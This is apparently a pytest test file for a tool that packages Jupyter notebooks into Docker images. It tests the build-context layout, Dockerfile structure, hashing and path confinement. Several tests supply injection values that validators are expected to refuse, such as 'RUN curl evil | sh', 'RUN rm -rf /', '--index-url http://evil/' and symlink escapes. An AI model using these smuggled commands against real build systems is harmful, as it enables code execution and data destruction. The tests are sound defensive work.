"""Package stage: build context layout, Dockerfile shape, hashing and path confinement."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from jupyter_cloudpromote import package
from jupyter_cloudpromote.errors import CloudPromoteError, ConfigError
from jupyter_cloudpromote.package import (
    CA_BUNDLE_NAME,
    RUNNER_NAME,
    SCRIPT_NAME,
    default_base_image,
    image_repository_for,
    make_build_context,
    render_dockerfile,
)

from .conftest import make_notebook

CA_PEM = b"-----BEGIN CERTIFICATE-----\nMIIBfakefakefake\n-----END CERTIFICATE-----\n"


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    """A notebook folder with a local module, a package, a data folder and a CA file."""
    folder = tmp_path / "project"
    make_notebook(folder / "My Analysis.ipynb", ["import helpers\nprint(helpers.X)"])
    (folder / "helpers.py").write_text("X = 1\n")
    (folder / "mypkg").mkdir()
    (folder / "mypkg" / "__init__.py").write_text("Y = 2\n")
    (folder / "mypkg" / "__pycache__").mkdir()
    (folder / "mypkg" / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0junk")
    (folder / "data").mkdir()
    (folder / "data" / "sample.csv").write_text("a,b\n1,2\n")
    (tmp_path / "ca.pem").write_bytes(CA_PEM)
    return folder


def build(project: Path, dest: Path, **overrides: object):
    args: dict[str, object] = {
        "dest": dest,
        "notebook_path": project / "My Analysis.ipynb",
        "script": "import helpers\nprint(helpers.X)\n",
        "requirements": ["packaging==24.1", "six==1.16.0"],
        "local_modules": ["helpers.py", "mypkg"],
        "include": ["data"],
        "base_image": "cloudpromote-base:test",
        "python_version": "3.11.2",
        "ca_bundle": str(project.parent / "ca.pem"),
    }
    args.update(overrides)
    return make_build_context(**args)  # type: ignore[arg-type]


def test_default_base_image_uses_major_minor() -> None:
    assert default_base_image("3.11.7") == "python:3.11-slim"
    assert default_base_image("3.12.0rc1") == "python:3.12-slim"
    with pytest.raises(ConfigError):
        default_base_image("eleven")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("My Analysis.ipynb", "cloudpromote/my-analysis"),
        ("__x__.ipynb", "cloudpromote/x"),
        ("Ünïcode ✓.ipynb", "cloudpromote/n-code"),
        ("!!!.ipynb", "cloudpromote/notebook"),
    ],
)
def test_image_repository_is_a_valid_docker_name(name: str, expected: str) -> None:
    repo = image_repository_for(name)
    assert repo == expected
    assert package.IMAGE_REFERENCE_RE.match(repo + ":0123456789abcdef")


def test_context_holds_script_runner_requirements_modules_and_dockerfile(
    project: Path, tmp_path: Path
) -> None:
    ctx = build(project, tmp_path / "ctx")
    root = tmp_path / "ctx"
    assert (root / SCRIPT_NAME).read_text() == "import helpers\nprint(helpers.X)\n"
    runner_source = Path(package.__file__).with_name("runner.py").read_bytes()
    assert (root / RUNNER_NAME).read_bytes() == runner_source
    assert (root / "requirements.txt").read_text() == "packaging==24.1\nsix==1.16.0\n"
    assert (root / "helpers.py").read_text() == "X = 1\n"
    assert (root / "mypkg" / "__init__.py").is_file()
    assert not (root / "mypkg" / "__pycache__").exists()
    assert (root / "data" / "sample.csv").is_file()
    assert (root / CA_BUNDLE_NAME).read_bytes() == CA_PEM
    assert (root / "Dockerfile").read_text() == ctx.dockerfile
    assert ctx.files == sorted(
        [
            "Dockerfile",
            "_cloudpromote_runner.py",
            "cloudpromote-ca.pem",
            "data/sample.csv",
            "helpers.py",
            "job.py",
            "mypkg/__init__.py",
            "requirements.txt",
        ]
    )
    assert ctx.notebook_name == "My Analysis.ipynb"
    assert ctx.image_tag == f"cloudpromote/my-analysis:{ctx.content_hash[:16]}"


def test_needs_ipython_adds_ipython_once(project: Path, tmp_path: Path) -> None:
    ctx = build(project, tmp_path / "a", needs_ipython=True)
    assert ctx.requirements[-1] == "ipython"
    ctx = build(project, tmp_path / "b", needs_ipython=True, requirements=["IPython==8.20"])
    assert ctx.requirements == ["IPython==8.20"]


def _stages(dockerfile: str) -> tuple[str, str]:
    first, _, final = dockerfile.partition("\nFROM cloudpromote-base:test\n")
    assert final, "expected a second FROM line (multi-stage build)"
    return first, final


def test_dockerfile_installs_dependencies_before_code_as_non_root(
    project: Path, tmp_path: Path
) -> None:
    dockerfile = build(project, tmp_path / "ctx").dockerfile
    deps, final = _stages(dockerfile)
    assert "FROM cloudpromote-base:test AS deps" in deps
    assert "python3 -m venv /opt/venv" in deps
    assert "/opt/venv/bin/pip install --no-cache-dir -r" in deps
    lines = final.splitlines()
    venv_copy = lines.index("COPY --from=deps /opt/venv /opt/venv")
    code_copies = [i for i, line in enumerate(lines) if line.startswith("COPY --chown=10001")]
    assert code_copies and min(code_copies) > venv_copy
    assert lines[code_copies[-1]] == f"COPY --chown=10001:10001 {RUNNER_NAME} {SCRIPT_NAME} ./"
    # included data before local modules, and each copied to its own relative path
    assert 'COPY --chown=10001:10001 ["data", "./data"]' in lines
    assert 'COPY --chown=10001:10001 ["helpers.py", "./helpers.py"]' in lines
    assert lines.index('COPY --chown=10001:10001 ["data", "./data"]') < lines.index(
        'COPY --chown=10001:10001 ["mypkg", "./mypkg"]'
    )
    assert "USER 10001:10001" in lines
    # the code COPY lines are the very last instructions: nothing after them to re-run
    assert max(code_copies) == len([line for line in lines if line]) - 1
    assert 'CMD ["python", "_cloudpromote_runner.py", "job.py"]' in lines
    assert any(line.startswith("ENV PATH=/opt/venv/bin:") for line in lines)
    assert "MPLBACKEND=Agg" in final and "PYTHONUNBUFFERED=1" in final
    # requirements.txt and the Dockerfile itself are never copied as code
    assert "requirements.txt" not in final


def test_ca_bundle_only_in_deps_stage_unless_kept(project: Path, tmp_path: Path) -> None:
    deps, final = _stages(build(project, tmp_path / "a").dockerfile)
    assert f"COPY {CA_BUNDLE_NAME}" in deps
    assert "PIP_CERT=" in deps and "SSL_CERT_FILE=" in deps and "REQUESTS_CA_BUNDLE=" in deps
    assert CA_BUNDLE_NAME not in final and "PIP_CERT" not in final and "ca-all" not in final

    _deps, kept = _stages(build(project, tmp_path / "b", keep_ca_bundle=True).dockerfile)
    assert "COPY --from=deps /tmp/cloudpromote-build/ca-all.pem" in kept
    assert "SSL_CERT_FILE=/usr/local/share/cloudpromote/ca-bundle.pem" in kept


def test_no_requirements_still_makes_the_venv(project: Path, tmp_path: Path) -> None:
    ctx = build(project, tmp_path / "ctx", requirements=[], ca_bundle=None)
    deps, _final = _stages(ctx.dockerfile)
    assert "python3 -m venv /opt/venv" in deps
    assert "pip install" not in deps
    assert (tmp_path / "ctx" / "requirements.txt").read_bytes() == b""
    # with no requirements, a kept CA bundle still reaches the final image
    kept = build(project, tmp_path / "kept", requirements=[], keep_ca_bundle=True)
    deps, final = _stages(kept.dockerfile)
    assert "pip install" not in deps and f"COPY {CA_BUNDLE_NAME}" in deps
    assert "SSL_CERT_FILE=/usr/local/share/cloudpromote/ca-bundle.pem" in final


def test_pip_index_url_goes_through_a_config_file_not_the_dockerfile(
    project: Path, tmp_path: Path
) -> None:
    url = "https://user:s3cret@pypi.example.com/simple"
    ctx = build(project, tmp_path / "ctx", pip_index_url=url)
    assert "s3cret" not in ctx.dockerfile
    assert (
        tmp_path / "ctx" / "cloudpromote-pip.conf"
    ).read_text() == f"[global]\nindex-url = {url}\n"
    with pytest.raises(ConfigError):
        build(project, tmp_path / "bad", pip_index_url="https://x/simple\nRUN rm -rf /")


def test_hash_is_deterministic_and_content_based(project: Path, tmp_path: Path) -> None:
    first = build(project, tmp_path / "a")
    # touch every source file: a new mtime must not change anything
    for path in project.rglob("*"):
        os.utime(path, (1_000_000, 1_000_000))
    second = build(project, tmp_path / "b")
    assert first.content_hash == second.content_hash
    assert first.dependency_hash == second.dependency_hash
    assert first.dockerfile == second.dockerfile


def test_code_edit_changes_content_hash_but_not_dependency_hash(
    project: Path, tmp_path: Path
) -> None:
    base = build(project, tmp_path / "a")
    edited_script = build(project, tmp_path / "b", script="print('changed')\n")
    assert edited_script.content_hash != base.content_hash
    assert edited_script.dependency_hash == base.dependency_hash
    (project / "helpers.py").write_text("X = 2\n")
    edited_module = build(project, tmp_path / "c")
    assert edited_module.content_hash not in (base.content_hash, edited_script.content_hash)
    assert edited_module.dependency_hash == base.dependency_hash


@pytest.mark.parametrize(
    "change",
    [
        {"requirements": ["packaging==24.2", "six==1.16.0"]},
        {"base_image": "python:3.11-slim"},
        {"ca_bundle": None},
        {"pip_index_url": "https://pypi.example.com/simple"},
    ],
)
def test_dependency_changes_change_both_hashes(
    project: Path, tmp_path: Path, change: dict[str, object]
) -> None:
    base = build(project, tmp_path / "a")
    changed = build(project, tmp_path / "b", **change)
    assert changed.dependency_hash != base.dependency_hash
    assert changed.content_hash != base.content_hash


def test_include_outside_the_notebook_folder_is_refused(project: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("top secret")
    with pytest.raises(CloudPromoteError, match="outside the notebook's folder"):
        build(project, tmp_path / "a", include=["../secret.txt"])
    with pytest.raises(CloudPromoteError, match="absolute path"):
        build(project, tmp_path / "b", include=[str(tmp_path / "secret.txt")])
    (project / "link.txt").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(CloudPromoteError, match="symlink") as info:
        build(project, tmp_path / "c", include=["link.txt"])
    assert "copy the file into that folder" in str(info.value)
    # a symlink escaping from inside an included folder is refused too
    (project / "data" / "escape").symlink_to(tmp_path)
    with pytest.raises(CloudPromoteError, match="outside the notebook's folder"):
        build(project, tmp_path / "d", include=["data"])
    # nothing was written for a refused context
    assert not (tmp_path / "d").exists()


def test_symlink_inside_the_folder_is_copied_as_a_file(project: Path, tmp_path: Path) -> None:
    (project / "alias.csv").symlink_to(project / "data" / "sample.csv")
    build(project, tmp_path / "ctx", include=["alias.csv"])
    copied = tmp_path / "ctx" / "alias.csv"
    assert not copied.is_symlink()
    assert copied.read_text() == "a,b\n1,2\n"


def test_missing_include_says_what_to_do(project: Path, tmp_path: Path) -> None:
    with pytest.raises(CloudPromoteError, match="does not exist") as info:
        build(project, tmp_path / "ctx", include=["nope.csv"])
    assert "relative to the notebook's folder" in info.value.fix


def test_reserved_and_dockerfile_unsafe_names_are_refused(project: Path, tmp_path: Path) -> None:
    (project / "requirements.txt").write_text("x\n")
    with pytest.raises(CloudPromoteError, match="name the job package uses"):
        build(project, tmp_path / "a", include=["requirements.txt"])
    (project / "price$HOME.csv").write_text("1\n")
    with pytest.raises(CloudPromoteError, match="Rename"):
        build(project, tmp_path / "b", include=["price$HOME.csv"])


@pytest.mark.parametrize(
    "bad",
    [
        "python:3.11-slim\nRUN curl evil | sh",
        "python:3.11 AS x",
        "UPPER/case:1",
        "",
        "python:3.11;rm",
    ],
)
def test_invalid_base_image_is_refused(bad: str) -> None:
    with pytest.raises(ConfigError, match="not a valid container image name"):
        render_dockerfile(
            base_image=bad,
            notebook_name="n.ipynb",
            content_hash_label=None,
            has_requirements=False,
            ca_bundle=False,
            keep_ca_bundle=False,
        )


@pytest.mark.parametrize(
    "good",
    ["python:3.11-slim", "localhost:5000/team/py:3.11", "registry.example.com/a/b", "debian"],
)
def test_valid_base_images_are_accepted(good: str) -> None:
    text = render_dockerfile(
        base_image=good,
        notebook_name="n.ipynb",
        content_hash_label="ab" * 32,
        has_requirements=True,
        ca_bundle=False,
        keep_ca_bundle=False,
    )
    assert f"FROM {good} AS deps" in text
    assert 'LABEL io.cloudpromote.content-hash="' + "ab" * 32 + '"' in text


def test_notebook_name_never_reaches_the_dockerfile_raw() -> None:
    text = render_dockerfile(
        base_image="debian",
        notebook_name='evil"\nRUN rm -rf $(id).ipynb',
        content_hash_label=None,
        has_requirements=False,
        ca_bundle=False,
        keep_ca_bundle=False,
    )
    assert "rm -rf" not in text and "$(id)" not in text
    assert 'org.opencontainers.image.title="evil-run-rm-rf-id"' in text


def test_requirement_with_pip_options_is_refused(project: Path, tmp_path: Path) -> None:
    with pytest.raises(CloudPromoteError, match="single requirement"):
        build(project, tmp_path / "a", requirements=["six\n--index-url http://evil/"])
    with pytest.raises(CloudPromoteError, match="single requirement"):
        build(project, tmp_path / "b", requirements=["--extra-index-url=http://evil/"])


def test_non_pem_ca_bundle_is_refused(project: Path, tmp_path: Path) -> None:
    (tmp_path / "notpem").write_text("hello")
    with pytest.raises(ConfigError, match="no PEM certificate"):
        build(project, tmp_path / "a", ca_bundle=str(tmp_path / "notpem"))


def test_dest_must_be_fresh(project: Path, tmp_path: Path) -> None:
    (tmp_path / "ctx").mkdir()
    (tmp_path / "ctx" / "old.txt").write_text("x")
    with pytest.raises(CloudPromoteError, match="not empty"):
        build(project, tmp_path / "ctx")
